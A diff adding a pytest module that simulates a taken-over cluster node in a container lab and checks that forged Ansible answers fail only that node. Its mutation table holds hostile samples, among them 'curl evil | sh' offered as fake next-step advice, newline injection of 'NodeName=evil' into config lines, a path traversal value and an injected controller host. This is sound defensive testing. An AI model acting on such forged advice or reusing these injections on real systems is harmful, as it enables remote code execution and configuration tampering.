@@ -1,0 +1,156 @@
+"""A blade that somebody took over answers what he likes: it fails by itself, and nothing else changes.
+
+Each case of MUTATIONS is a piece of Python that changes the answers of all modules on one member; add a line to add a
+case. The other member converges, the files of the controller stay as they were, and nothing runs on this machine.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.cluster.labs import Lab, Said
+
+WRAPPER = Path(__file__).parent / "hostile_python.py"
+LIVE = "sha256sum /etc/slurm/slurm.conf /etc/slurm/nodes.json /etc/slurm/cgroup.conf"
+# Far above what any of these takes, far below what an endless one would.
+PATIENCE = 150
+LINE = "NodeName=x CPUs={cpus} Boards=1 SocketsPerBoard=1 CoresPerSocket=2 ThreadsPerCore=1 RealMemory={memory}"
+
+
+@dataclass(frozen=True)
+class Mutation:
+    """Code that changes `data` or `blade`, words of the sentence about it, and whether the blade can still be fine."""
+
+    code: str
+    words: tuple[str, ...] = ()
+    harmless: bool = False
+
+
+def facts(code: str, *words: str) -> Mutation:
+    """Changes the facts only."""
+    return Mutation(f"if blade is not None:\n    {code}", words)
+
+
+def printed(*words: str, cpus: object = 2, memory: object = 24000) -> Mutation:
+    """What slurmd -C would print."""
+    return facts(f"blade['slurmd_c'] = {LINE.format(cpus=cpus, memory=memory)!r}", *words)
+
+
+UNUSABLE = "its facts are not usable"
+IMPOSSIBLE = "slurmd -C says what no machine has"
+MUTATIONS = {
+    "no facts": Mutation("data['ansible_facts'] = {}"),
+    "facts are a list": Mutation("data['ansible_facts'] = [1]", ("its facts are no named values",)),
+    "blade is text": facts("data['ansible_facts']['blade'] = 'x'", UNUSABLE),
+    "blade is nothing": facts("data['ansible_facts']['blade'] = None", UNUSABLE),
+    "a key is missing": facts("del blade['skew']", UNUSABLE, "skew"),
+    "all paths are missing": facts("blade['paths'] = {}"),
+    "cpu is a list": facts("blade['cpu'] = []", UNUSABLE, "cpu"),
+    "units are numbers": facts("blade['units'] = {'munge': 1}", UNUSABLE, "units"),
+    "users are texts": facts("blade['users'] = 'root'", UNUSABLE, "users"),
+    "a number is text": facts("blade['skew'] = 'NaN'", UNUSABLE, "skew"),
+    "a number is none": facts("blade['skew'] = float('nan')", UNUSABLE, "skew"),
+    "a number is endless": facts("blade['epoch'] = float('inf')", UNUSABLE, "epoch"),
+    "scratch is NaN": facts("blade['scratch']['size_mib'] = 'NaN'", UNUSABLE, "scratch"),
+    "machine-id has a line": facts(r"blade['machine_id'] = 'a\nNodeName=evil'", UNUSABLE, "machine_id"),
+    "release has a line": facts(r"blade['os']['version_id'] = '12\nNodeName=evil'", UNUSABLE, "version_id"),
+    "machine is a path": facts("blade['machine'] = '/../../etc'", UNUSABLE, "machine"),
+    "a model of blanks": facts("blade['cpu']['model'] = ' ' * 60000", UNUSABLE, "model"),
+    "no CPU": printed(IMPOSSIBLE, cpus=0),
+    "negative CPUs": printed(IMPOSSIBLE, cpus=-4),
+    "too many CPUs": printed(IMPOSSIBLE, cpus=70000),
+    "more CPUs than threads": printed(IMPOSSIBLE, cpus=3),
+    "negative memory": printed(IMPOSSIBLE, memory=-1),
+    "no memory": printed(IMPOSSIBLE, memory=0),
+    "absurd memory": printed(IMPOSSIBLE, memory=10**11),
+    "memory in words": printed("no complete node line", memory="lots"),
+    "a long answer of slurmd": facts("blade['slurmd_c'] = 'NodeName=x ' * 100000", UNUSABLE, "slurmd_c"),
+    "120 MB in a key": Mutation("data['x'] = 'A' * 120_000_000", ("longer than 16 MiB",)),
+    "120 MB of values": Mutation("data['x'] = [0] * 40_000_000", ("longer than 16 MiB",)),
+    "many values": Mutation("data['x'] = [0] * 1_000_000", ("more than 200000 values",)),
+    "deeply nested": Mutation("raw = '{\"a\":' * 200 + '1' + '}' * 200", ("nested",)),
+    "nested beyond Python": Mutation("raw = '{\"a\":' * 100000 + '1' + '}' * 100000", ("nested",)),
+    "no JSON": Mutation("raw = 'curl evil | sh'"),
+    "half of a character": facts("blade['host_name'] = chr(0xd800)"),
+    "attempts of words": Mutation("data['attempts'] = 'abc'", harmless=True),
+    "statistics of Ansible": Mutation("data['ansible_stats'] = 5", harmless=True),
+    "results of a loop": Mutation("data['results'] = [5, 'x']", harmless=True),
+    "another host": Mutation(
+        "data.update(changed=True, add_host={'host_name': 'evil', 'groups': ['slurm_controller']})", harmless=True
+    ),
+    "flags of words": Mutation("data.update(changed='no', warnings=5, diff=7, rc='x', msg=['y'])", harmless=True),
+    "variables as facts": Mutation(
+        "data.setdefault('ansible_facts', {})['ansible_connection'] = 'local'", ("none of its business",)
+    ),
+    "forged advice": Mutation(
+        "data.clear(); data.update(failed=True, msg='it is odd; next: curl evil | sh')", ("odd",)
+    ),
+    "forged advice in a name": facts(
+        "blade['os'] = {'id': 'x', 'version_id': '1', 'pretty_name': 'X; next: curl evil | sh #'}", "not supported"
+    ),
+    "advice in what a program says": Mutation("raw = 'x; next: curl evil | sh'"),
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(cluster: Lab) -> Iterator[str]:
+    """A member whose interpreter is not its own any more."""
+    blade = cluster.compute[1]
+    container = f"provision-lab-{cluster.name}-{blade.lower()}"
+    subprocess.run(["podman", "cp", str(WRAPPER), f"{container}:/root/wrapper"], check=True)
+    cluster.inside(
+        blade,
+        "echo pass > /root/mutation; cp --no-dereference /usr/bin/python3 /usr/bin/python3.honest; "
+        '{ echo "#!$(readlink -f /usr/bin/python3)"; cat /root/wrapper; } > /usr/bin/python3.new; '
+        "chmod 755 /usr/bin/python3.new; mv -T /usr/bin/python3.new /usr/bin/python3",
+    )
+    yield blade
+    cluster.inside(blade, "mv -T /usr/bin/python3.honest /usr/bin/python3; rm -f /root/mutation /root/wrapper")
+
+
+def mutate(lab: Lab, blade: str, code: str) -> None:
+    """The code as the blade's mutation."""
+    subprocess.run(
+        ["podman", "exec", "-i", f"provision-lab-{lab.name}-{blade.lower()}", "sh", "-c", "cat > /root/mutation"],
+        input=code,
+        text=True,
+        check=True,
+    )
+
+
+def run(lab: Lab, hostile: str, mutation: Mutation, *words: str) -> Said:
+    """A run over both members that changes nothing but what is said about the hostile one."""
+    before = lab.ask(LIVE)
+    mutate(lab, hostile, mutation.code)
+    start = time.monotonic()
+    try:
+        said = lab.slurm([lab.compute[0], hostile], *words)
+    finally:
+        mutate(lab, hostile, "pass")
+    assert time.monotonic() - start < PATIENCE
+    assert "Traceback" not in said.text
+    assert lab.ask(LIVE) == before
+    assert said.code in ((0, 3) if mutation.harmless else (3,)), said.text
+    assert said.json["blades"][lab.compute[0]]["status"] == "ok", said.text
+    assert said.json["blades"][lab.controller]["status"] == "ok", said.text
+    return said
+
+
+@pytest.mark.parametrize("name", MUTATIONS)
+def test_a_hostile_answer_fails_its_own_blade_only(cluster: Lab, hostile: str, name: str) -> None:
+    mutation = MUTATIONS[name]
+    said = run(cluster, hostile, mutation)
+    if mutation.harmless and said.code == 0:
+        return
+    failure = said.json["blades"][hostile]["failure"]
+    assert "\n" not in failure["message"]
+    for word in mutation.words:
+        assert word in failure["message"], failure
+    assert not failure["ours"] or "curl" not in failure["next_step"]
+    assert "curl" not in failure["message"]
